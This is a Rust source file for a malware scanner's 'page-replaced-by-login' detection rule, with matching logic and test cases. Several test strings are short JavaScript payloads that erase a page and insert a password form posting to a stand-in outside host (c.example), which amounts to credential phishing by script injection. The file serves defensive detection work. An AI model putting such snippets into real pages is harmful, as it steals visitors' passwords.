//! `page-replaced-by-login`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-replaced-by-login",
    description: "The script replaces the whole page, or a part of it, with a form that sends a password to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::LoginMarkup, Atom::FormTarget])],
    within: 0,
    only_if: Some(replaces),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"document.write('<h3>Please sign in to go on</h3><form action=http://c.example><input name=u><input type=password name=password></form>');document.getElementById('search').remove()"#,
            r#"document.body.innerHTML='<h1>Session expired</h1><form action=\"https://c.example/l\" method=post><input name=u><input type=password name=p><button>Sign in</button></form>'"#,
            r#"document.documentElement.innerHTML='<form action=\"http://c.example/\"><input type=\"password\" name=p></form>'"#,
            r#"function clear(n){while(n.firstChild){n.removeChild(n.firstChild)}}clear(document.body);var f=document.createElement('form');f.setAttribute('action','http://c.example/login.php');f.setAttribute('method','POST');var p=document.createElement('input');p.setAttribute('name','pass');p.setAttribute('type','password');f.appendChild(p);document.body.appendChild(f)"#,
        ],
        without: &[
            r#"document.write('<form action=\"https://c.example/l\"><input type=password name=password></form>');document.getElementById('user').focus()"#,
            r#"document.write('<form action=\"/login\"><input type=password name=password></form>');document.getElementById('wait').remove()"#,
            r#"box.innerHTML='<form action=\"https://c.example/l\"><input type=password name=p></form>'"#,
            r#"document.body.innerHTML='<form action=\"/login\"><input type=password name=p></form>'"#,
            r#"function clear(n){while(n.firstChild){n.removeChild(n.firstChild)}}clear(list);var f=document.createElement('form');f.setAttribute('action','http://c.example/find');f.setAttribute('method','POST');document.body.appendChild(f)"#,
        ],
    },
};

fn replaces(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 12);
    let at = held.first as usize;
    if Near::is_place_of(evidence, held, &[Atom::LoginMarkup]) {
        if is_written_instead(near, at) {
            return true;
        }
        let start = (at.saturating_sub(8)..at).rev().find(|at| near.is(*at, b'='));
        return start.is_some_and(|at| {
            matches!(near.before(at, 1), "innerHTML" | "outerHTML")
                && matches!(near.before(at, 2), "body" | "documentElement")
        });
    }
    let near = Near::new(evidence, held, 240);
    let abroad = near.is_address(at + 2) || near.is_address(at + 4);
    abroad && asks_password(near) && empties(near)
}

/// Whether the form at an item is written into the page, and something that was there is taken away just after or before.
fn is_written_instead(near: Near<'_>, at: usize) -> bool {
    let written = near.is(at.wrapping_sub(1), b'(')
        && matches!(near.before(at, 2), "write" | "writeln")
        && near.before(at, 3) == "document";
    let beside = near.among(at.saturating_sub(WRITTEN)..at + WRITTEN);
    written
        && beside.words(&["getElementById", "querySelector"]).any(|found| {
            near.is(found + 1, b'(')
                && near.is(found + 3, b')')
                && near.word(found + 4) == "remove"
                && near.is(found + 5, b'(')
                && near.is(found + 6, b')')
        })
}

/// Items around a form that is written.
const WRITTEN: usize = 16;

/// Whether a field for a password is made.
fn asks_password(near: Near<'_>) -> bool {
    near.places().any(|at| {
        near.kind(at) == Some(Kind::Str) && near.word(at) == "password" && (near.before(at, 2) == "type")
    })
}

/// Whether all that the page shows is taken away first: by a function that the body is given to, or in place.
fn empties(near: Near<'_>) -> bool {
    let emptied = near.words(&["body"]).any(|at| {
        near.word(at + 1) == "replaceChildren"
            || near.word(at + 1) == "innerHTML" && near.is(at + 2, b'=') && near.word(at + 3).is_empty()
    });
    let handed = || {
        near.words(&["body"]).any(|at| {
            near.is(at + 1, b')')
                && at > 3
                && near.is(at.wrapping_sub(2), b'(')
                && near
                    .functions_meant(at - 3)
                    .any(|body| near.among(body).words(&["removeChild", "firstChild"]).next().is_some())
        })
    };
    emptied || handed()
}
